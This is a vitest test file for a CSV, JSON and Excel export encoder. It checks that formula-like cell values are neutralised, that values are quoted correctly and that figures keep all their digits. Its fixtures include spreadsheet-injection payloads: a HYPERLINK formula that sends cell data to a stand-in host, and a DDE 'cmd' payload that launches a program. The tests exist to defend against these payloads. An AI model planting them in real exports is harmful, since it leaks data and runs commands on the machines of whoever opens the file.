import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { encode } from './encode';
import type { ExportColumn, ExportRow, FileKind } from './export-source';
import type { Ending } from './format';
import { neutral } from './neutral';

const columns: readonly ExportColumn[] = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'Path', type: 'string' },
  { name: 'Size', type: 'long' },
  { name: 'Part', type: 'real' },
  { name: 'Exact', type: 'decimal' },
  { name: 'Took', type: 'timespan' },
  { name: 'Ok', type: 'bool' },
  { name: 'Detail', type: 'dynamic' },
];
const facts = { kql: 'T | where Path == "a,b"', timespan: 'P7D', exportedAt: '2026-11-20T12:00:00.000Z' };
const hostile = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1',
  '\r=1',
  'a,"b"\r\nc;d',
  '<script>alert(1)</script>&amp;]]>',
  '_x0041_',
  'nul\u0000 bell\u0007 rtl\u202E zero\u200B',
  '\uFFFE\uFFFF 😀',
  '  blanks  ',
];
const rowOf = (path: string): ExportRow => [
  '2026-11-20T11:59:58.1234567Z',
  path,
  '-9223372036854775808',
  -1.5,
  '-12345678901234567890.5',
  '-1.02:03:04',
  true,
  '{"a":[1,"=x"],"big":9007199254740993}',
];
const empty: ExportRow = [null, '', null, 'NaN', null, null, null, null];
const rows = [...hostile.map(rowOf), empty];

async function* inPages(all: readonly ExportRow[]) {
  for (let at = 0; at < all.length; at += 5) yield all.slice(at, at + 5);
}

const bytesOf = async (kind: FileKind, all: readonly ExportRow[] = rows, missing?: string, as = columns) => {
  const ending: Ending = { count: all.length, missing };
  let cut = 0;
  const onCut = (texts: number) => {
    cut = texts;
  };
  const chunks: Uint8Array[] = [];
  const encoding = { kind, columns: as, facts, pages: inPages(all), ending: () => ending, onCut };
  for await (const chunk of encode(encoding)) chunks.push(chunk);
  return { bytes: new Uint8Array(Buffer.concat(chunks)), cut };
};
/** UTF-8 with its mark, if it has one, left where it is. */
const textOf = async (...args: Parameters<typeof bytesOf>) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode((await bytesOf(...args)).bytes);

test.each([
  ['=1+1', 'string', "'=1+1"],
  ['+1', 'string', "'+1"],
  ['-rwxr-xr-x', 'string', "'-rwxr-xr-x"],
  ['@x', 'string', "'@x"],
  ['\tx', 'string', "'\tx"],
  ['\rx', 'string', "'\rx"],
  ['\nx', 'string', "'\nx"],
  ['=a\nb', 'string', "'=a\nb"],
  [' =1', 'string', "' =1"],
  ['\uFF1D1', 'string', "'\uFF1D1"],
  ['\u200B=1', 'string', "'\u200B=1"],
  ['=1', 'dynamic', "'=1"],
  ['=1', 'guid', "'=1"],
  ['-cmd', 'timespan', "'-cmd"],
  ['a=1', 'string', 'a=1'],
  ['/etc/=x', 'string', '/etc/=x'],
  [' x', 'string', ' x'],
  ['', 'string', ''],
  ['-5', 'long', '-5'],
  ['-1.5e+300', 'real', '-1.5e+300'],
  ['-5', 'dynamic', '-5'],
  ['-00:00:01', 'timespan', '-00:00:01'],
])('%j of type %s is written %j', (text, type, expected) => {
  expect(neutral(text, type)).toBe(expected);
});

describe('CSV', () => {
  test('is read back cell by cell, formulas as text, figures with all digits, times in UTC', async () => {
    const text = await textOf('csv');
    expect(text.startsWith('\ufeff')).toBe(true);
    const { data, errors } = Papa.parse<string[]>(text.slice(1), { newline: '\r\n' });
    expect(errors).toEqual([]);
    const [head, ...lines] = data;
    expect(head?.[0]).toBe('TimeGenerated [UTC]');
    expect(lines.slice(0, hostile.length).map((line) => line[1])).toEqual(
      hostile.map((path) => (/^[=@\-\t\r]/.test(path) ? `'${path}` : path)),
    );
    expect(lines[0]).toEqual([
      '2026-11-20 11:59:58.1234567',
      `'${hostile[0]}`,
      '-9223372036854775808',
      '-1.5',
      '-12345678901234567890.5',
      '-1.02:03:04',
      'true',
      '{"a":[1,"=x"],"big":9007199254740993}',
    ]);
    expect(lines[hostile.length]).toEqual(['', '', '', 'NaN', '', '', '', '']);
  });

  test('quotes as RFC 4180 says', async () => {
    const text = await textOf('csv', [['a,b'], ['a"b'], ['a\nb'], ['plain']], undefined, [
      { name: 'A b', type: 'string' },
    ]);
    expect(text).toBe('\ufeffA b\r\n"a,b"\r\n"a""b"\r\n"a\nb"\r\nplain\r\n');
  });

  test('a column name is no formula either, and a last line says what is missing', async () => {
    const text = await textOf('csv', [[1, 2]], 'Incomplete: 1 of 9 rows', [
      { name: '=cmd()', type: 'long' },
      { name: 'b', type: 'long' },
    ]);
    expect(text).toBe("\ufeff'=cmd(),b\r\n1,2\r\nIncomplete: 1 of 9 rows,\r\n");
  });
});

describe('JSON', () => {
  test('holds every value as it was, and says what it is', async () => {
    const text = await textOf('json');
    expect(text).toContain('"Size":-9223372036854775808,');
    expect(text).toContain('"big":9007199254740993}');
    const file = JSON.parse(text);
    expect(file).toMatchObject({
      query: facts.kql,
      timespan: 'P7D',
      rowCount: rows.length,
      complete: true,
      columns: [{ name: 'TimeGenerated', type: 'datetime', zone: 'UTC' }, ...columns.slice(1)],
    });
    expect(file.rows.map((row: { Path: string }) => row.Path)).toEqual([...hostile, '']);
    expect(file.rows[0]).toMatchObject({ TimeGenerated: '2026-11-20T11:59:58.1234567Z', Ok: true, Part: -1.5 });
    expect(file.rows.at(-1)).toMatchObject({ TimeGenerated: null, Part: 'NaN', Detail: null });
  });

  test('is JSON without rows, and with a reason for missing ones', async () => {
    expect(JSON.parse(await textOf('json', []))).toMatchObject({ rows: [], rowCount: 0, complete: true });
    expect(JSON.parse(await textOf('json', [rowOf('a')], 'why'))).toMatchObject({ complete: false, missing: 'why' });
  });

  test('a dynamic that is a plain string stays one', async () => {
    const text = await textOf('json', [['plain "text"'], ['5']], undefined, [{ name: 'd', type: 'dynamic' }]);
    expect(JSON.parse(text).rows).toEqual([{ d: 'plain "text"' }, { d: 5 }]);
  });
});

const plain = (text: string) =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
    .replaceAll(/_x([0-9A-F]{4})_/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));

const cell = (tag: string, body: string) => {
  const text = /<t[^>]*>([\s\S]*?)<\/t>/.exec(body)?.[1];
  if (text !== undefined) return plain(text);
  const value = /<v>(.*?)<\/v>/.exec(body)?.[1];
  return value === undefined ? null : tag.includes('t="b"') ? value === '1' : Number(value);
};

/** Rows of the only sheet, read from its XML: texts with OOXML's own escapes undone, as Excel does. */
const sheetOf = (bytes: Uint8Array) => {
  const files = unzipSync(bytes);
  const xml = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  // A character that XML does not have makes a file Excel calls damaged.
  // oxlint-disable-next-line no-control-regex
  expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
  return [...xml.matchAll(/<row [^>]*>([\s\S]*?)<\/row>/g)].map(([, row = '']) => {
    const cells: Record<string, unknown> = {};
    for (const [, ref = '', tag = '', body = ''] of row.matchAll(/<c r="([A-Z]+)\d+"([^>]*)>([\s\S]*?)<\/c>/g))
      cells[ref] = cell(tag, body);
    return cells;
  });
};

describe('Excel', () => {
  test('is read back: texts unharmed and no formulas, figures as figures where they fit, times as times', async () => {
    const { bytes } = await bytesOf('excel');
    const [head, ...lines] = sheetOf(bytes);
    expect(head?.['A']).toBe('TimeGenerated [UTC]');
    expect(lines.slice(0, hostile.length).map((line) => line['B'])).toEqual(
      hostile.map((path) => (/^[=@\-\t\r]/.test(path) ? `'${path}` : path)),
    );
    const [first] = lines;
    expect(first).toMatchObject({
      C: '-9223372036854775808',
      D: -1.5,
      E: '-12345678901234567890.5',
      F: '-1.02:03:04',
      G: true,
    });
    // Days since 1899-12-30, to the microsecond.
    const seconds = (Number(first?.['A']) - 25_569) * 86_400 - Date.UTC(2026, 10, 20, 11, 59, 58) / 1000;
    expect(seconds).toBeCloseTo(0.1234567, 5);
    expect(strFromU8(bytes)).not.toContain('<f>');
  });

  test('figures up to 15 digits are figures, longer ones text', async () => {
    const { bytes } = await bytesOf('excel', [[999_999_999_999_999], ['1000000000000000'], [0]], undefined, [
      { name: 'n', type: 'long' },
    ]);
    expect(sheetOf(bytes).map((row) => row['A'])).toEqual(['n', 999_999_999_999_999, '1000000000000000', 0]);
    const exact = await bytesOf('excel', [['9007199254740993']], undefined, [{ name: 'n', type: 'long' }]);
    expect(sheetOf(exact.bytes)[1]?.['A']).toBe('9007199254740993');
  });

  test('a text longer than a cell ends there and is counted, and a last line says what is missing', async () => {
    const { bytes, cut } = await bytesOf('excel', [['x'.repeat(40_000)], ['y']], 'Incomplete: why', [
      { name: 't', type: 'string' },
    ]);
    expect(cut).toBe(1);
    expect(sheetOf(bytes).map(({ A }) => String(A).length)).toEqual([1, 32_767, 1, 'Incomplete: why'.length]);
  });
});
